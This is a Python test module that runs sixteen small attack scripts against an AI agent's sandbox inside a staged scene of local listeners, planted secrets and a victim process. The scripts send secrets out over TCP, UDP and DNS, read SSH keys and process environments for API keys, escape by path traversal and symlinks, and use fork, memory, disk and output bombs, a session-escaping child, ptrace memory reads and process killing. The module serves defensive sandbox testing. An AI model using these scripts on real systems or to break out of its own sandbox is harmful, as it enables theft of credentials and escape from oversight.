"""Sixteen attacks on a sandbox, each a small script, and the scene they act in.

Whether one succeeded is judged by its effect outside (what a listener received, a file that is there, a process that is
dead) or by a secret in its output, never by its own word. Targets are listeners on loopback and processes that the
scene starts. The bombs are small and end by themselves.
"""

from __future__ import annotations

import socket
import subprocess
import sys
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from agentkd.sandbox.collect import Outcome
from agentkd.sandbox.limits import Limits
from agentkd.sandbox.sandbox import Sandbox

SECRET = "sesame-4711"
AMPLE = Limits(seconds=30, memory_mb=4096, disk_mb=1024, output_kb=256, processes=1000)

# Stands for agentkd: has keys in its environment, and a secret in its memory, at the address that it prints.
VICTIM = f"""
import ctypes, time
ctypes.CDLL(None).prctl(0x59616D61, ctypes.c_ulong(-1), 0, 0, 0)  # PR_SET_PTRACER: where Yama guards all, let any
kept = ctypes.create_string_buffer(b"{SECRET}")
print(ctypes.addressof(kept), flush=True)
time.sleep(120)
"""


@dataclass
class Scene:
    """A run of ours among other things that are none of the code's business."""

    root: Path
    received: list[bytes] = field(default_factory=list)
    ports: dict[str, int] = field(default_factory=dict)

    def __enter__(self) -> Scene:
        for path in ("home/.ssh/id", "competition/private/labels.csv", "runs/other/traces.jsonl", "outside/secret"):
            (self.root / path).parent.mkdir(parents=True)
            (self.root / path).write_text(SECRET)
        (self.root / "competition/data").mkdir()
        self.work.mkdir(parents=True)
        environment = {"OPENAI_API_KEY": SECRET, "KAGGLE_KEY": SECRET}
        self.victim = subprocess.Popen([sys.executable, "-c", VICTIM], env=environment, stdout=subprocess.PIPE)
        assert self.victim.stdout is not None
        self.address = int(self.victim.stdout.readline())
        self._sockets = [
            self._listen("tcp", socket.SOCK_STREAM, self._accept),
            self._listen("udp", socket.SOCK_DGRAM, self._collect),
            self._listen("dns", socket.SOCK_DGRAM, self._resolve),
        ]
        return self

    def __exit__(self, *_: object) -> None:
        for listener in self._sockets:
            listener.close()
        self.victim.kill()
        self.victim.communicate()

    @property
    def work(self) -> Path:
        return self.root / "runs/this/work"

    def _listen(self, name: str, kind: int, serve: Callable[[socket.socket], None]) -> socket.socket:
        listener = socket.socket(socket.AF_INET, kind)
        listener.bind(("127.0.0.1", 0))
        self.ports[name] = listener.getsockname()[1]
        if kind == socket.SOCK_STREAM:
            listener.listen()
        listener.settimeout(20)
        threading.Thread(target=self._serve, args=(listener, serve), daemon=True).start()
        return listener

    def _serve(self, listener: socket.socket, serve: Callable[[socket.socket], None]) -> None:
        try:
            while True:
                serve(listener)
        except OSError:  # closed, or nobody came
            pass

    def _accept(self, listener: socket.socket) -> None:
        with listener.accept()[0] as connection:
            connection.settimeout(5)
            self.received.append(connection.recv(100))

    def _collect(self, listener: socket.socket) -> None:
        self.received.append(listener.recv(100))

    def _resolve(self, listener: socket.socket) -> None:
        """Stands for a name server, which gets the secret as part of a name and answers with an address."""
        query, asker = listener.recvfrom(512)
        self.received.append(query)
        header = query[:2] + b"\x81\x80\0\1\0\1\0\0\0\0"
        listener.sendto(header + query[12:] + b"\xc0\x0c\0\1\0\1\0\0\0\x3c\0\4\x7f\0\0\1", asker)

    def fill(self, script: str) -> str:
        values: dict[str, Any] = {"root": str(self.root), "pid": self.victim.pid, "address": self.address}
        for name, value in {**values, **self.ports, "secret": SECRET}.items():
            script = script.replace(f"<{name}>", str(value))
        return script


@dataclass(frozen=True)
class Attack:
    """script: with <root>, <pid>, … to be filled in. succeeded: looks at the scene after the run. limits: below what
    the attack uses. signals: it is about signals, which Landlock refuses from version 6 on."""

    name: str
    script: str
    succeeded: Callable[[Scene, Outcome], bool]
    limits: Limits = AMPLE
    stopped: str = ""
    signals: bool = False

    def run(self, sandbox: Sandbox, scene: Scene, limits: Limits | None = None) -> Outcome:
        script = scene.work / "attack.py"
        script.write_text(scene.fill(self.script))
        data = scene.root / "competition/data"
        return sandbox.run(
            [sys.executable, "-S", str(script)], work=scene.work, read=[data], limits=limits or self.limits
        )


def _told(scene: Scene, outcome: Outcome) -> bool:
    return SECRET in outcome.output


def _arrived(scene: Scene, outcome: Outcome) -> bool:
    deadline = time.monotonic() + 0.3
    while not scene.received and time.monotonic() < deadline:
        time.sleep(0.01)
    return any(SECRET.encode() in data for data in scene.received)


def _done(scene: Scene, outcome: Outcome) -> bool:
    return "it is done" in outcome.output


def _exists(path: str, patience: float = 0.0) -> Callable[[Scene, Outcome], bool]:
    def look(scene: Scene, outcome: Outcome) -> bool:
        deadline = time.monotonic() + patience
        while not (scene.root / path).exists() and time.monotonic() < deadline:
            time.sleep(0.02)
        return (scene.root / path).exists()

    return look


def _dead(scene: Scene, outcome: Outcome) -> bool:
    try:
        return scene.victim.wait(0.2) is not None
    except subprocess.TimeoutExpired:
        return False


def _reads(path: str) -> str:
    return f"print(open('<root>/{path}').read())"


ATTACKS = [
    Attack(
        "tcp",
        "import socket; socket.create_connection(('127.0.0.1', <tcp>), 2).sendall(b'<secret>')",
        _arrived,
    ),
    Attack(
        "udp",
        "import socket; socket.socket(type=socket.SOCK_DGRAM).sendto(b'<secret>', ('127.0.0.1', <udp>))",
        _arrived,
    ),
    Attack(
        "dns",
        """
import socket
asked = b"".join(bytes([len(part)]) + part for part in (b"<secret>", b"example", b"com", b""))
asker = socket.socket(type=socket.SOCK_DGRAM)
asker.settimeout(0.7)
asker.sendto(b"\\7\\7\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + asked + b"\\0\\1\\0\\1", ("127.0.0.1", <dns>))
print(socket.inet_ntoa(asker.recv(512)[-4:]))
""",
        _arrived,
    ),
    Attack("home", _reads("home/.ssh/id"), _told),
    Attack(
        "keys",
        """
import glob, os
found = dict(os.environ)
for path in ["/proc/<pid>/environ", *glob.glob("/proc/[0-9]*/environ")]:
    try:
        found.update(pair.split("=", 1) for pair in open(path).read().split("\\0") if "=" in pair)
    except OSError:
        pass
print(found.get("OPENAI_API_KEY"), found.get("KAGGLE_KEY"))
""",
        _told,
    ),
    Attack("private", _reads("competition/data/../private/labels.csv"), _told),
    Attack("other runs", _reads("runs/this/work/../../other/traces.jsonl"), _told),
    Attack("writing outside", "open('<root>/outside/planted', 'w').write('x')", _exists("outside/planted")),
    Attack(
        "symlink",
        "import os; os.symlink('<root>/outside', 'door'); open('door/planted', 'w').write('x')",
        _exists("outside/planted"),
    ),
    Attack(
        "fork bomb",
        "import os, time\nfirst = os.getpid()\nfor _ in range(7): os.fork()\n"
        "time.sleep(1)\nif os.getpid() == first: print('it is done')",
        _done,
        Limits(seconds=30, processes=30),
        "processes",
    ),
    Attack(
        "memory bomb",
        "import time\nheld = []\nfor _ in range(25): held.append(b'x' * 10_000_000)\n"
        "time.sleep(0.5)\nprint('it is done')",
        _done,
        Limits(seconds=30, memory_mb=120),
        "memory",
    ),
    Attack(
        "disk bomb",
        "import time\nfor i in range(25): open(f'{i}.bin', 'wb').write(b'x' * 2_000_000)\n"
        "time.sleep(0.5)\nprint('it is done')",
        _done,
        Limits(seconds=30, disk_mb=20),
        "disk",
    ),
    Attack(
        "output bomb",
        "for _ in range(2000): print('x' * 2000)\nprint('it is done')",
        _done,
        Limits(seconds=30, output_kb=16),
        "output",
    ),
    Attack(
        "surviving child",  # it leaves its parent, its session, and kills both who would adopt it
        """
import os, time
bosses = [os.getppid()]
try:
    bosses.append(int(open(f"/proc/{bosses[0]}/stat").read().split()[3]))
except OSError:
    pass
if not os.fork():
    os.setsid()
    if not os.fork():
        for number in (19, 9):
            for boss in bosses:
                try:
                    os.kill(boss, number)
                except OSError:
                    pass
        time.sleep(0.5)
        open("survived", "w").write("x")
        os._exit(0)
    os._exit(0)
time.sleep(0.2)
""",
        _exists("runs/this/work/survived", patience=1.0),
        signals=True,
    ),
    Attack(
        "ptrace",
        """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
if libc.ptrace(16, <pid>, None, None):  # PTRACE_ATTACH
    raise OSError(ctypes.get_errno(), "ptrace")
os.waitpid(<pid>, 0)
memory = os.open("/proc/<pid>/mem", os.O_RDONLY)
print(os.pread(memory, 32, <address>).split(b"\\0")[0].decode())
""",
        _told,
    ),
    Attack("kill", "import os; os.kill(<pid>, 9)", _dead, signals=True),
]
